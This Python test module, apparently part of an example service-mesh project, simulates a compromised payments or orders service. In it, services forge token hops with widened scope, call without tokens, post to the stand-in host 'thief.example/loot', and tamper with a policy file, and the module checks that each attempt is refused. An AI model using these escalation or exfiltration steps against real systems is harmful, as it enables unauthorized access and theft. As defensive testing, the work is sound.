"""Group 4: a compromised service that widens its scope, or calls with no token at all."""

from __future__ import annotations

import shutil
import tempfile
import time
from pathlib import Path

from examples.commerce import records
from examples.commerce.client import post, through_proxy
from examples.commerce.mesh import Mesh
from examples.commerce.scenarios.outcome import Group, Outcome
from examples.commerce.scenarios.theft import ledger_entry, stolen
from examples.commerce.topology import POLICIES, spiffe_id

LEDGER = spiffe_id("ledger")
PUSH_S = 10.0
CHARGE = {"order": "1", "amount_cents": 1}


def widened_scope(mesh: Mesh) -> Outcome:
    """Payments signs a hop with more scope than it was handed."""
    payments = mesh.identity("payments")
    scope = ["ledger:append", "orders:write"]
    loot = payments.hand_on(stolen(mesh).first, LEDGER, scope=scope)
    port = mesh.places["ledger"].inbound
    answer = payments.call(port, post("/entries", ledger_entry()), loot)
    return Outcome("403 chain_widened", str(answer))


def invented_scope(mesh: Mesh) -> Outcome:
    """Payments signs a hop with a scope that nobody ever had."""
    payments = mesh.identity("payments")
    loot = payments.hand_on(stolen(mesh).first, LEDGER, scope=["ledger:append", "ledger:erase"])
    port = mesh.places["ledger"].inbound
    answer = payments.call(port, post("/entries", ledger_entry()), loot)
    return Outcome("403 chain_widened", str(answer))


def no_token(mesh: Mesh) -> Outcome:
    """Payments calls the ledger with no token, where a grant is required."""
    port = mesh.places["ledger"].inbound
    answer = mesh.identity("payments").call(port, post("/entries", ledger_entry()))
    return Outcome("401 token_missing", str(answer))


def optional_elsewhere(mesh: Mesh) -> Outcome:
    """The route where a grant is optional does not open another method."""
    port = mesh.places["ledger"].inbound
    answer = mesh.identity("payments").call(port, post("/healthz", ledger_entry()))
    return Outcome("401 token_missing", str(answer))


def application_on_its_own(mesh: Mesh) -> Outcome:
    """The application of orders charges somebody although no customer asked."""
    port = mesh.places["orders"].outbound
    answer = through_proxy(port, post("http://payments/charges", CHARGE))
    return Outcome("403 policy_denied", mesh.explain(answer, "orders"))


def application_past_payments(mesh: Mesh) -> Outcome:
    """The application of orders calls the ledger, past payments."""
    port = mesh.places["orders"].outbound
    answer = through_proxy(port, post("http://ledger/entries", ledger_entry()))
    return Outcome("403 policy_denied", mesh.explain(answer, "orders"))


def application_outwards(mesh: Mesh) -> Outcome:
    """The application of orders calls a host that is not of the mesh."""
    port = mesh.places["orders"].outbound
    answer = through_proxy(port, post("http://thief.example/loot", {}))
    return Outcome("502 destination_unknown", mesh.explain(answer, "orders"))


def widening_policy(mesh: Mesh) -> Outcome:
    """A policy for payments that hands on more scope than is held; then put right."""
    with tempfile.TemporaryDirectory() as folder:
        bad = Path(folder) / "payments"
        shutil.copytree(POLICIES / "payments", bad)
        rules = bad / "outbound.rego"
        text = rules.read_text().replace('"scope": ["ledger:append"]', '"scope": ["orders:write"]')
        rules.write_text(text.replace("atom in input.narrowgate.token.scope", "atom"))
        try:
            mesh.ca("policy", "set", "--id", spiffe_id("payments"), str(bad))
            widened = _outbound_reason(mesh, "scope_widened")
        finally:
            good = str(POLICIES / "payments")
            mesh.ca("policy", "set", "--id", spiffe_id("payments"), good)
    healed = mesh.until(mesh.buy, "201")
    return Outcome("scope_widened, then 201", f"{widened}, then {healed}")


def _outbound_reason(mesh: Mesh, wanted: str) -> str:
    """Buy until the outbound gate of payments refuses with `wanted`; the last reason seen."""
    log = mesh.around.decision_log("payments")
    end_s = time.monotonic() + PUSH_S
    while True:
        offset = records.size(log)
        mesh.buy()
        found = records.await_decision(log, lambda one: one.gate == "outbound", offset)
        reason = found.reason if found else "no decision"
        if reason == wanted or time.monotonic() > end_s:
            return reason


GROUP = Group(
    4,
    "a compromised service: more scope, or no token",
    [
        widened_scope,
        invented_scope,
        no_token,
        optional_elsewhere,
        application_on_its_own,
        application_past_payments,
        application_outwards,
        widening_policy,
    ],
)
